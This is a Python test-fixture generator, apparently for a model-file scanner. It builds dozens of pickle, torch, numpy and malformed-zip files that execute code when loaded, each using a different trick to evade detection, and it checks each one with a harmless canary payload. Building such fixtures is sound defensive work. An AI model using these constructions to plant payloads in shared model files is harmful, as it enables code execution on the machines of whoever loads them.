"""Files that run code when they are loaded: one for each way to name a function, call it, or hide a pickle.

`python -m tests.hostile.attacks FOLDER` writes them. The payload makes a file `CANARY` in the working directory.
"""

from __future__ import annotations

import argparse
import io
import json
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib
from collections.abc import Iterable
from pathlib import Path

__all__ = ["EVIL", "nested", "prove", "tarred", "write", "zipped"]

CODE = "open('CANARY', 'w').write('run')"


def text(words: str) -> bytes:
    """A text, as BINUNICODE."""
    return b"X" + struct.pack("<I", len(words.encode())) + words.encode()


def short(words: str) -> bytes:
    """A text, as SHORT_BINUNICODE."""
    return b"\x8c" + bytes([len(words)]) + words.encode()


def named(module: str, name: str) -> bytes:
    """GLOBAL."""
    return f"c{module}\n{name}\n".encode()


CALL = text(CODE) + b"\x85R"  # with a function below it on the stack
TWO, FOUR = b"\x80\x02", b"\x80\x04"
PLAIN = named("builtins", "eval") + CALL + b"."
EVIL = TWO + PLAIN
GOOD = TWO + b"}."
MAGIC = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
SYSTEM = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}


def tarred(data: bytes, name: str = "pickle") -> bytes:
    """A tar archive of one member."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def zipped(data: bytes, name: str = "policy.pth", method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip archive of one member."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr(name, data)
    return out.getvalue()


def saved(pickled: bytes, record: str = "a/data.pkl", more: Iterable[tuple[str, bytes]] = ()) -> bytes:
    """An archive as torch.save writes it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in ((record, pickled), ("a/byteorder", b"little"), ("a/version", b"3\n"), *more):
            archive.writestr(name, data)
    return out.getvalue()


def nested(data: bytes) -> bytes:
    """A torch archive with a member."""
    return saved(GOOD, more=[("a/policy.pth", data)])


def legacy(
    system: bytes = pickle.dumps(SYSTEM, 2), tree: bytes = GOOD, version: bytes = pickle.dumps(1001, 2)
) -> bytes:
    """A stream of the old torch.save."""
    return MAGIC + version + system + tree + pickle.dumps([], 2)


def objects(data: bytes) -> bytes:
    """An array of objects, as numpy.save writes it."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + data


def _taken_apart(data: bytes) -> tuple[bytes, bytes, int]:
    count, size, at = struct.unpack_from("<HLL", data, data.rfind(b"PK\5\6") + 10)
    return data[:at], data[at : at + size], count


def _moved(directory: bytes, by: int) -> bytes:
    made, at = bytearray(directory), 0
    while at < len(made):
        (old,) = struct.unpack_from("<L", made, at + 42)
        struct.pack_into("<L", made, at + 42, (old + by) & 0xFFFFFFFF)
        at += 46 + sum(struct.unpack_from("<HHH", made, at + 28))
    return bytes(made)


def two_directories(evil: bytes, good: bytes) -> bytes:
    """The end record points to one directory, in front of it stands another."""
    first, its, count = _taken_apart(evil)
    second, other, _ = _taken_apart(good)
    at = len(first) + len(second)
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(its), at, 0)
    return first + second + its + _moved(other, len(first) - len(its)) + end


def two_zip64_ends(evil: bytes, good: bytes) -> bytes:
    """The locator points to one zip64 end, in front of it stands another."""
    first, its, count = _taken_apart(evil)
    second, other, _ = _taken_apart(good)
    data = first + second

    def end64(directory: bytes, at: int) -> bytes:
        return struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, len(directory), at)

    where = len(data) + len(its)
    data += its + end64(its, len(data))
    moved = _moved(other, len(first))
    data += moved + end64(moved, len(data))
    data += struct.pack("<4sLQL", b"PK\6\7", 0, where, 1)
    return data + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)


def attacks() -> dict[str, tuple[str, bytes]]:
    """Name -> how it is loaded, and its bytes. How is `torch`, `numpy`, or the number of pickles to load."""
    eval_, code = named("builtins", "eval"), text(CODE)
    user_dict, listed = named("collections", "UserDict"), named("builtins", "bytes") + named("builtins", "map")
    extension = TWO + named("copyreg", "add_extension") + text("builtins") + text("eval") + b"K!\x87R0"
    stack = {
        "plain": short("builtins") + short("eval"),
        "memo": short("eval") + b"q\x05" + short("builtins") + b"q\x0600h\x06h\x05",
        "mark": short("builtins") + b"(" + short("collections") + short("OrderedDict") + b"1" + short("eval"),
        "dup": short("code") + b"2\x930" + short("builtins") + short("eval"),
        "memo-again": short("collections") + b"q\x000" + short("builtins") + b"q\x000h\x00" + short("eval"),
        "escaped": b"V\\u0062uiltins\nVev\\u0061l\n",
        "escaped-old": b"S'built\\x69ns'\nS'ev\\x61l'\n",
        "dotted": short("enum") + short("bltns.eval"),
    }
    found: dict[str, tuple[str, bytes]] = {
        "global.pkl": ("1", EVIL),
        "without-protocol.pkl": ("1", PLAIN),
        "protocol-0.pkl": ("1", b'cbuiltins\neval\n(S"' + CODE.encode() + b'"\ntR.'),
        "inst.pkl": ("1", b"(" + text(CODE) + b"ibuiltins\neval\n."),
        "obj.pkl": ("1", TWO + b"(" + eval_ + text(CODE) + b"o."),
        "none-in-front.pkl": ("1", b"N0" + FOUR + PLAIN),
        "second-pickle.pkl": ("2", TWO + b"N." + EVIL),
        "broken-behind.pkl": ("1", EVIL[:-1] + b"\xff\xff"),
        "cut-behind.pkl": ("1", EVIL[:-1] + b"X\xff\xff\xff\x7f"),
        "frame-behind.pkl": ("1", EVIL[:-1] + b"\x95" + b"\xff" * 8),
        "extension-1.pkl": ("1", extension + b"\x82!" + CALL + b"."),
        "extension-4.pkl": ("1", extension + b"\x84!\0\0\0" + CALL + b"."),
        "setstate.pkl": (
            "1",
            TWO + user_dict + b")\x81}" + text("__setstate__") + eval_ + b"sb" + code + b"b.",
        ),
        "map.pkl": (
            "1",
            TWO + listed + eval_ + b"]" + code + b"a\x86\x81\x85\x81.",
        ),
        "from-type.pkl": (
            "1",
            FOUR
            + named("torch._tensor", "_rebuild_from_type_v2")
            + b"("
            + named("enum", "bltns.eval")
            + named("builtins", "int")
            + text(CODE)
            + b"\x85}tR.",
        ),
        "partial.pkl": ("1", FOUR + named("functools", "partial") + eval_ + text(CODE) + b"\x86R)R."),
        "loads.pkl": ("1", FOUR + named("pickle", "loads") + b"B" + struct.pack("<I", len(EVIL)) + EVIL + b"\x85R."),
        "storage.pkl": (
            "1",
            TWO + named("torch.storage", "_load_from_bytes") + b"B" + struct.pack("<I", len(EVIL)) + EVIL + b"\x85R.",
        ),
        "without-protocol.bin": ("torch", PLAIN),
        "legacy-tree.pt": ("torch", legacy(tree=EVIL)),
        "legacy-system.pt": ("torch", legacy(system=PLAIN)),
        "legacy-version.pt": ("torch", legacy(version=PLAIN)),
        "objects.npy": ("numpy", objects(EVIL)),
        "objects.npz": ("numpy", zipped(objects(EVIL), "a.npy")),
        "archive.pt": ("torch", saved(EVIL)),
        "archive-dotted.pt": ("torch", saved(FOUR + named("enum", "bltns.eval") + CALL + b".")),
        "archive-extension.pt": ("torch", saved(extension + b"\x82!" + CALL + b".")),
        "archive-upper-case.pt": ("torch", saved(PLAIN, "a/DATA.PKL")),
        "archive-bad-checksum.pt": (
            "torch",
            saved(EVIL).replace(struct.pack("<L", zlib.crc32(EVIL)), b"abcd"),
        ),
        "archive-local-name.pt": ("torch", saved(EVIL).replace(b"a/data.pkl", b"a/nota.txt", 1)),
        "archive-two-directories.pt": ("torch", two_directories(saved(EVIL), saved(GOOD))),
        "archive-two-zip64-ends.pt": ("torch", two_zip64_ends(saved(EVIL), saved(GOOD))),
    }
    for name, pushed in stack.items():
        found[f"stack-global-{name}.pkl"] = ("1", FOUR + pushed + b"\x93" + CALL + b".")
    for module, name in (
        ("builtins", "print.__self__.eval"),
        ("enum", "bltns.exec"),
        ("collections", "_sys.modules.get"),
    ):
        if name.endswith("get"):
            call = text("builtins") + b"\x85R0" + named("enum", "bltns.eval") + CALL
            found[f"dotted-{module}.pkl"] = ("1", FOUR + named(module, name) + call + b".")
        else:
            found[f"dotted-{module}.pkl"] = ("1", FOUR + named(module, name) + CALL + b".")
    return found


def write(folder: Path) -> dict[str, str]:
    """Write the files; returns how each is loaded."""
    made = attacks()
    for name, (_, data) in made.items():
        (folder / name).write_bytes(data)
    return {name: how for name, (how, _) in made.items()}


_LOADER = """
import json, os, pickle, sys, tempfile, warnings
warnings.simplefilter("ignore")
import numpy, torch
for name, how in json.loads(sys.stdin.read()).items():
    path = os.path.abspath(name)
    child = os.fork()
    if not child:
        os.chdir(tempfile.mkdtemp())
        try:
            if how == "torch":
                torch.load(path, weights_only=False)
            elif how == "numpy":
                got = numpy.load(path, allow_pickle=True)
                [got[key] for key in getattr(got, "files", ())]
            else:
                with open(path, "rb") as file:
                    for _ in range(int(how)):
                        pickle.load(file)
        except BaseException:
            pass
        os._exit(not os.path.exists("CANARY"))
    print(name, os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0, flush=True)
"""


def prove(folder: Path, files: dict[str, str]) -> dict[str, bool]:
    """Whether loading each file runs its payload: measured in children, in folders of their own."""
    with tempfile.TemporaryDirectory() as temporary:
        done = subprocess.run(
            [sys.executable, "-c", _LOADER],
            input=json.dumps(files),
            cwd=folder,
            env={**os.environ, "TMPDIR": temporary},
            capture_output=True,
            text=True,
            check=True,
        )
    return {name: ran == "True" for name, ran in (line.rsplit(" ", 1) for line in done.stdout.splitlines())}


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("folder", type=Path)
    options = parser.parse_args()
    options.folder.mkdir(parents=True, exist_ok=True)
    proven = prove(options.folder, write(options.folder))
    rows = [{"file": name, "proven_to_run": ran} for name, ran in proven.items()]
    (options.folder / "manifest.json").write_text(json.dumps(rows, indent=1) + "\n")
    print(f"{len(proven)} files, {sum(proven.values())} run when they are loaded")
